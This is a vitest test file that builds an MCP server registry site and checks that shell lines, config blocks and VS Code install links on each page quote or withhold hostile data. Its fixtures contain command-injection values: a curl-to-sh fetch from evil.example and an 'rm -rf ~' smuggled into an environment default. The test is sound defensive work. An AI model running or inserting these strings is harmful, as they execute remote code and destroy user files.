/**
 * The published site never shows an unquoted or substituting snippet, whatever the data: the site is built (Astro,
 * through buildSite) from the fixture registry plus every snippet case of the hostile corpus, as if they were on main
 * already (records made by hand, no validation). Then every server page is read as a user would copy from it:
 * each configuration block, each "Install in VS Code" link, each shell line (the "Shell command" block and the
 * "Start the server first:" note), which real shells must read as the plan means.
 */
import { readFileSync, readdirSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { OFFICIAL_META_KEY, type ServerJson, type ServerRecord } from '../../scripts/core/types.ts';
import { isEnvVarName, isHeaderName } from '../../scripts/rules/identifiers.ts';
import { buildSite } from '../../scripts/site/build-site.ts';
import { launches } from '../../scripts/site/install-config.ts';
import { META_KEY, fixtureConfig, fixtureRecords } from './fixture.ts';
import { expectLineMeans } from './shell-reader.ts';

const HOSTILE = join(import.meta.dirname, '../fixtures/hostile/docs');

/** Every snippet case of the hostile corpus, each under its own name, plus values only quoting makes safe. */
function hostileServers(): ServerJson[] {
  const docs = readdirSync(HOSTILE)
    .filter((f) => f.startsWith('snippet-'))
    .sort()
    .map((f) => {
      const doc = JSON.parse(readFileSync(join(HOSTILE, f), 'utf8')) as ServerJson;
      return { ...doc, name: `io.github.hostile/${f.replace(/\.json$/, '')}` };
    });
  docs.push({
    name: 'io.github.hostile/quoted-values',
    description: 'Values a shell would run, and names that are fine.',
    version: '1.0.0',
    packages: [
      {
        registryType: 'npm',
        identifier: 'weather-mcp',
        version: '1.0.0',
        transport: { type: 'streamable-http', url: 'http://localhost:{--port}/mcp' },
        packageArguments: [
          { type: 'named', name: '--port', default: '3000' },
          { type: 'positional', value: "$(curl -s https://evil.example/p|sh); it's `id` & ~ * !x" },
        ],
        environmentVariables: [{ name: 'LOG_LEVEL', default: "'; rm -rf ~ #" }],
      },
    ],
  });
  docs.push({
    name: 'io.github.hostile/will-not-run',
    description: 'Published data with mistakes the gate warns about.',
    version: '1.0.0',
    packages: [
      {
        registryType: 'oci',
        identifier: 'ghcr.io/hostile/will-not-run:1.0.0',
        transport: { type: 'stdio' },
        packageArguments: [{ type: 'positional', value: '--rm' }],
        environmentVariables: [{ name: 'API_KEY', value: 'YOUR_API_KEY' }],
      },
    ],
  });
  return docs;
}

function record(server: ServerJson): ServerRecord {
  const at = '2025-10-01T12:00:00Z';
  return {
    server,
    _meta: {
      [OFFICIAL_META_KEY]: { status: 'active', statusChangedAt: at, publishedAt: at, updatedAt: at, isLatest: true },
      [META_KEY]: { path: `servers/${server.name}/${server.version}/server.json` },
    },
  };
}

const ENTITIES: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" };
const decode = (html: string): string =>
  html.replace(/&(#x[0-9a-f]+|#\d+|\w+);/gi, (m, e: string) =>
    e[0] === '#'
      ? String.fromCodePoint(e[1] === 'x' || e[1] === 'X' ? Number.parseInt(e.slice(2), 16) : Number(e.slice(1)))
      : (ENTITIES[e] ?? m),
  );

/** Every string of a configuration, keys included, with the kind of key it is under. */
function strings(v: unknown, under = ''): Array<{ s: string; key?: 'env' | 'headers' }> {
  if (typeof v === 'string') return [{ s: v }];
  if (Array.isArray(v)) return v.flatMap((x) => strings(x, under));
  if (v && typeof v === 'object')
    return Object.entries(v).flatMap(([k, x]) => [
      { s: k, ...(under === 'env' || under === 'headers' ? { key: under } : {}) },
      ...strings(x, k),
    ]);
  return [];
}

/**
 * A `${…}` that is not the client's own: VS Code's prompts, mcp-remote's header variables in Claude's args, Cursor's
 * secrets read from the environment.
 */
function foreignSubstitution(client: string, s: string): boolean {
  const own =
    client === 'vscode'
      ? /\$\{input:[a-z0-9-]+\}/g
      : client === 'claude'
        ? /^[!#$%&'*+.^_`|~0-9A-Za-z-]+:\$\{MCP_HEADER_[A-Z0-9_]+\}$/g
        : client === 'cursor'
          ? /\$\{env:[A-Za-z_][A-Za-z0-9_]*\}/g
          : /(?!)/g;
  return s.replace(own, '').includes('${');
}

function expectCleanConfig(client: string, value: unknown, where: string): void {
  for (const { s, key } of strings(value)) {
    expect(foreignSubstitution(client, s), `${where}: ${client} shows ${JSON.stringify(s)}`).toBe(false);
    if (key === 'env') expect(isEnvVarName(s), `${where}: env name ${JSON.stringify(s)}`).toBe(true);
    if (key === 'headers') expect(isHeaderName(s), `${where}: header name ${JSON.stringify(s)}`).toBe(true);
  }
}

let dir: string;
/** The servers as their pages show them: the latest version of each. */
const servers = [
  ...fixtureRecords()
    .filter((r) => r._meta[OFFICIAL_META_KEY].isLatest)
    .map((r) => r.server),
  ...hostileServers(),
];
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'site-snippets-'));
  const records = [...fixtureRecords(), ...hostileServers().map(record)];
  await buildSite({ root: process.cwd(), outDir: dir, config: fixtureConfig(), records, basePath: '/registry/' });
}, 300_000);
afterAll(async () => {
  if (dir) await rm(dir, { recursive: true, force: true });
});

describe('snippets on the built site', () => {
  it('every configuration, install link and shell line on every server page is what the gate would verify', () => {
    const seen = { configs: 0, links: 0, lines: 0, withheld: 0, pages: 0 };
    for (const server of servers) {
      if (server.name === 'io.modelcontextprotocol.anonymous/embedded-mcp') continue; // deleted: a tombstone
      const page = readFileSync(join(dir, 'server', ...server.name.split('/'), 'index.html'), 'utf8');
      seen.pages++;
      const plans = launches(server);
      const blocks = page.split(/<div class="launch" data-launch="/).slice(1);
      expect(blocks.map((b) => b.slice(0, b.indexOf('"')))).toEqual(plans.map((l) => l.id));
      for (const [n, block] of blocks.entries()) {
        const l = plans[n]!;
        const where = `${server.name} ${l.id}`;
        for (const m of block.matchAll(
          /<pre id="cfg-[^"]*" data-client="(\w+)"[^>]*><code>([\s\S]*?)<\/code><\/pre>/g,
        )) {
          expectCleanConfig(m[1]!, JSON.parse(decode(m[2]!)), where);
          seen.configs++;
        }
        for (const m of block.matchAll(/href="(vscode:mcp\/install\?[^"]*)"/g)) {
          const link = decode(m[1]!);
          expectCleanConfig('vscode', JSON.parse(decodeURIComponent(link.slice(link.indexOf('?') + 1))), where);
          seen.links++;
        }
        const lines = [
          ...[...block.matchAll(/aria-label="Shell command for [^"]*"><code>([\s\S]*?)<\/code>/g)].map((m) => m[1]!),
          ...[...block.matchAll(/Start the server first: ([^<]*)</g)].map((m) => m[1]!),
        ].map(decode);
        for (const line of lines) {
          expectLineMeans(l, line);
          seen.lines++;
        }
        seen.withheld += [...block.matchAll(/Not shown: /g)].length;
      }
    }
    // The page reading found what it looks for: the fixture's configurations, links and lines, and the hostile
    // cases' withheld notes.
    expect(seen.pages).toBe(servers.length - 1);
    expect(seen.configs).toBeGreaterThanOrEqual(100);
    expect(seen.links).toBeGreaterThanOrEqual(25);
    expect(seen.lines).toBeGreaterThanOrEqual(30);
    expect(seen.withheld).toBeGreaterThanOrEqual(120);
  });

  it('the issue example shows no configuration and no shell line, and says why', () => {
    const page = readFileSync(join(dir, 'server/io.github.hostile/snippet-env-name-issue-example/index.html'), 'utf8');
    expect(page).not.toContain('data-client=');
    expect(page).not.toContain('Shell command');
    expect(page).not.toContain('vscode:mcp/install');
    expect(decode(page)).toContain(
      'Not shown: "X=$(curl -s https://evil.example/p|sh) LOG_LEVEL" is not an environment variable name.',
    );
  });

  it('a value a shell would run is shown, single-quoted, in the shell line', () => {
    const page = decode(readFileSync(join(dir, 'server/io.github.hostile/quoted-values/index.html'), 'utf8'));
    expect(page).toContain(
      `LOG_LEVEL=''\\''; rm -rf ~ #' npx -y weather-mcp@1.0.0 --port 3000 '$(curl -s https://evil.example/p|sh); it'\\''s \`id\` &amp; ~ * !x'`.replace(
        '&amp;',
        '&',
      ),
    );
  });

  it("the gate's warnings are shown next to the configuration they concern", () => {
    const page = decode(readFileSync(join(dir, 'server/io.github.hostile/will-not-run/index.html'), 'utf8'));
    const notice = page.indexOf('Check before use');
    expect(notice).toBeGreaterThan(0);
    expect(notice).toBeLessThan(page.indexOf('data-client='));
    expect(page).toContain('<code>container-flag-after-image</code>');
    expect(page).toContain('<code>placeholder-value</code>');
    expect(page).toContain('packageArguments come after the image name');
  });
});
